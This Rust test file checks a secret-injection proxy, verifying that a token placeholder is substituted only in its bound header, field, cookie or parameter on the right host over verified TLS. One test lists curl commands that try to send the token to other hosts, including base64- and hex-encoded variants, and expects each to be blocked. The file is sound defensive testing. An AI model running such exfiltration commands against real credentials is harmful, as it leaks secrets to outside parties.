//! Where a secret may stand, and what becomes of its placeholder elsewhere.

use std::fs;

use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::Value;
use stockade_types::EventKind;

use crate::{
    BEARER, REAL, Stage, events, holding,
    host::{server::Server, tls_server::forms},
    rule,
};

#[test]
fn g3_a_placeholder_anywhere_but_in_its_slot_is_an_alarm_and_reaches_nobody() {
    let Some(stage) = Stage::bound() else {
        return;
    };
    let task = stage.start(&[], "sleep 600");
    let attempts = [
        "-H \"Authorization: Bearer $GH_TOKEN\" https://other.test/v1/x",
        "-H \"Authorization: Bearer $GH_TOKEN\" https://elsewhere.test/v1/x",
        "-H \"Authorization: Bearer $GH_TOKEN\" https://api.test/v2/x",
        "-X DELETE -H \"Authorization: Bearer $GH_TOKEN\" https://api.test/v1/x",
        "-H \"Authorization: Bearer $GH_TOKEN\" https://api.test:8443/v1/x",
        "-H \"Authorization: Bearer $GH_TOKEN\" http://api.test/v1/x",
        "-H \"Authorization: token $GH_TOKEN\" https://api.test/v1/x",
        "-H \"Authorization: $GH_TOKEN\" https://api.test/v1/x",
        "-H \"X-Note: $GH_TOKEN\" https://api.test/v1/x",
        "-H \"$GH_TOKEN: x\" https://api.test/v1/x",
        "-H \"Cookie: a=$GH_TOKEN\" https://other.test/",
        "-u \"x:$GH_TOKEN\" https://api.test/v1/x",
        "-u \"x:$GH_TOKEN\" https://other.test/",
        "\"https://api.test/v1/$GH_TOKEN\"",
        "\"https://api.test/v1/x?a=$GH_TOKEN\"",
        "-d \"{\\\"text\\\": \\\"$GH_TOKEN\\\"}\" https://api.test/v1/x",
        "-H \"Authorization: Bearer $GH_TOKEN\" -d \"note=$GH_TOKEN\" https://api.test/v1/x",
        "-d \"$(printf %s $GH_TOKEN | base64 -w0)\" https://other.test/",
        "-d \"$(printf x%s $GH_TOKEN | od -An -tx1 | tr -d ' \\n')\" https://other.test/",
        "-H 'Transfer-Encoding: chunked' -d \"$GH_TOKEN\" https://other.test/",
    ];
    for attempt in attempts {
        let printed = stage.curl(&task, attempt);
        assert_eq!(rule(&printed), "secrets.placeholder-misplaced", "{attempt}");
    }
    assert!(stage.server.seen().is_empty(), "{:?}", stage.server.seen());
    let why = stage.host.stockade(&["why", "--task", &task.id]);
    assert!(why.stdout.contains("`github`"), "{why:?}");
    let refused = events(&task, EventKind::Denied);
    assert_eq!(refused.len(), attempts.len());
    assert!(
        refused.iter().all(|body| body["alarm"] == true),
        "{refused:?}"
    );
    assert!(events(&task, EventKind::SecretUsed).is_empty());
}

#[test]
fn g3_on_a_bound_host_no_other_credential_is_sent_and_without_one_it_is_reached() {
    let Some(stage) = Stage::bound() else {
        return;
    };
    let task = stage.start(&[], "sleep 600");
    for words in [
        "-H 'Authorization: Bearer ghp_of_somebody_else_0123456789abcdef'",
        "-H 'X-Api-Key: x'",
        "-H 'Cookie: session=x'",
        "-u somebody:else",
        "-G -d access_token=x",
        "-H \"Authorization: Bearer $GH_TOKEN\" -H 'X-Api-Key: x'",
        "-H \"Authorization: Bearer $GH_TOKEN\" -H \"Authorization: Bearer ghp_of_somebody_else\"",
    ] {
        let printed = stage.curl(&task, &format!("{words} https://api.test/v1/x"));
        let refused = rule(&printed);
        let foreign = refused == "secrets.foreign-credential";
        let twice =
            refused == "secrets.placeholder-misplaced" && words.matches("-H \"A").count() == 2;
        assert!(foreign || twice, "{words}: {printed}");
    }
    assert!(stage.server.seen().is_empty());
    assert_eq!(stage.curl(&task, "https://api.test/v1/public"), "ok 200");
    // Where no secret goes, the task's own credentials are its own business.
    let own = "-H 'Authorization: Bearer of-the-task-itself' https://other.test/";
    assert_eq!(stage.curl(&task, own), "ok 200");
}

#[test]
fn g3_what_would_be_answered_with_a_new_credential_is_refused_where_a_secret_goes() {
    let Some(stage) = Stage::bound() else {
        return;
    };
    let task = stage.start(&[], "sleep 600");
    for words in [
        format!("-X POST {BEARER} https://api.test/v1/oauth/token"),
        "-X POST https://api.test/V1/%6fauth//token/".to_owned(),
        "-X POST https://api.test/v1/oauth/token".to_owned(),
        format!("{BEARER} https://api.test/v1/aws/creds/deploy"),
        "-X POST https://api.test/repos/o/r/keys".to_owned(),
    ] {
        let printed = stage.curl(&task, &words);
        assert!(
            printed.contains("\"secrets.minting\""),
            "{words}: {printed}"
        );
        assert!(
            printed.contains("stockade secret add"),
            "{words}: {printed}"
        );
    }
    assert!(stage.server.seen().is_empty(), "{:?}", stage.server.seen());
    // Usual work with the same secret goes on, and so does asking for a token where
    // none of the task's secrets goes.
    let read = format!("{BEARER} https://api.test/v1/repos/o/r/keys");
    assert_eq!(stage.curl(&task, &read), "ok 200");
    let elsewhere = "-X POST https://other.test/v1/oauth/token";
    assert_eq!(stage.curl(&task, elsewhere), "ok 200");
}

#[test]
fn g3_fields_forms_passwords_parameters_and_cookies_are_slots_like_a_header() {
    let Some(stage) = Stage::open() else {
        return;
    };
    stage.secret(&["add", "login", "--from", "env:GITHUB"]);
    let words = ["bind", "login", "--host", "api.test", "--env", "GH_TOKEN"];
    stage.secret(&[&words[..], &["--field", "auth.token", "--path", "/login"]].concat());
    stage.secret(&[&words[..], &["--basic", "git", "--path", "/git/**"]].concat());
    let task = stage.start(&[], "sleep 600");
    let post = |body: &str| {
        let words =
            format!("-H 'Content-Type: application/json' -d \"{body}\" https://api.test/login");
        stage.curl(&task, &words)
    };
    assert_eq!(
        post("{\\\"auth\\\": {\\\"token\\\":\\\"$GH_TOKEN\\\"}, \\\"n\\\": 1.0}"),
        "ok 200"
    );
    let body = &stage.server.seen()[0].body;
    let expected = format!(r#"{{"auth": {{"token":{}}}, "n": 1.0}}"#, Value::from(REAL));
    assert_eq!(*body, expected);
    for body in [
        "{\\\"auth\\\": {\\\"token\\\":\\\"$GH_TOKEN\\\"}, \\\"n\\\": \\\"$GH_TOKEN\\\"}",
        "{\\\"auth\\\": {\\\"note\\\":\\\"$GH_TOKEN\\\"}}",
        "{\\\"auth\\\": {\\\"token\\\":\\\"a $GH_TOKEN\\\"}}",
    ] {
        assert_eq!(rule(&post(body)), "secrets.placeholder-misplaced", "{body}");
    }
    assert_eq!(
        stage.curl(&task, "-u \"git:$GH_TOKEN\" https://api.test/git/a/b"),
        "ok 200"
    );
    let other = stage.curl(&task, "-u \"root:$GH_TOKEN\" https://api.test/git/a/b");
    assert_eq!(rule(&other), "secrets.placeholder-misplaced");
    let seen = stage.server.seen();
    assert_eq!(seen.len(), 2);
    let expected = format!("Basic {}", STANDARD.encode(format!("git:{REAL}")));
    assert_eq!(seen[1].header("authorization").unwrap(), expected);

    let percent = &forms(REAL)[3];
    for (words, place) in [
        (
            ["--query", "key"],
            "\"https://api.test/p?a=b&key=$GH_TOKEN\"",
        ),
        (
            ["--form", "key"],
            "-d \"a=b&key=$GH_TOKEN\" https://api.test/p",
        ),
        (
            ["--header", "Cookie=key={}"],
            "-H \"Cookie: key=$GH_TOKEN\" https://api.test/p",
        ),
    ] {
        let bind = ["bind", "login", "--host", "api.test", "--env", "GH_TOKEN"];
        stage.secret(&[&bind[..], &words, &["--path", "/p"]].concat());
        let task = stage.start(&[], "sleep 600");
        assert_eq!(stage.curl(&task, place), "ok 200", "{words:?}");
        let seen = stage.server.seen().pop().unwrap();
        let sent = match words[0] {
            "--query" => &seen.line,
            "--form" => &seen.body,
            _ => seen.header("cookie").unwrap(),
        };
        let value = if words[0] == "--header" {
            REAL
        } else {
            percent
        };
        assert!(sent.contains(&format!("key={value}")), "{words:?}: {sent}");
        let elsewhere = place.replace("/p", "/q");
        let refused = rule(&stage.curl(&task, &elsewhere));
        assert_eq!(refused, "secrets.placeholder-misplaced", "{words:?}");
    }
    assert!(holding(&stage.host.state(), percent).is_empty());
}

#[test]
fn g3_what_a_repository_asks_for_is_shown_and_not_given() {
    let Some(stage) = Stage::bound() else {
        return;
    };
    let asks = "[[secrets.github]]\nhost = \"other.test\"\nslot = { header = \"authorization=Bearer {}\" }\n\
                [[secrets.github]]\nhost = \"api.test\"\npath = \"/echo\"\nslot = { header = \"authorization=Bearer {}\" }\n";
    fs::write(stage.host.repository().join("stockade.toml"), asks).unwrap();
    stage.host.git(&["add", "-A"]);
    stage.host.git(&["commit", "-q", "-m", "asks"]);
    let shown = stage.host.stockade(&["run", "--", "true"]);
    assert_eq!(shown.code, 0, "{shown:?}");
    let lines: Vec<_> = shown
        .stderr
        .lines()
        .filter(|line| line.contains("not given"))
        .collect();
    assert!(
        lines.len() == 1 && lines[0].contains("other.test"),
        "{}",
        shown.stderr
    );
    let task = stage.start(&[], "sleep 600");
    let printed = stage.curl(&task, &format!("{BEARER} https://other.test/"));
    assert_eq!(rule(&printed), "secrets.placeholder-misplaced");
    assert!(stage.server.seen().is_empty());
}

#[test]
fn g3_a_secret_goes_by_verified_tls_only() {
    let Some(mut stage) = Stage::bound() else {
        return;
    };
    let plain = Server::start("api.test");
    let words = [
        "--service",
        &plain.service,
        "--allow",
        "ANY api.test",
        "--yes",
    ];
    let task = stage.host.start_with(&words, "sleep 600");
    let ask = format!("{BEARER} https://api.test/v1/x");
    assert_eq!(rule(&stage.curl(&task, &ask)), "secrets.clear-text");
    assert!(plain.lines().is_empty());
    // The same server, and nobody says that it is to be believed.
    stage.host.unset("SSL_CERT_FILE");
    let task = stage.start(&[], "sleep 600");
    let printed = stage.curl(&task, &ask);
    assert!(
        printed.ends_with(" 502") && printed.contains("TLS"),
        "{printed}"
    );
    assert!(stage.server.seen().is_empty());
}
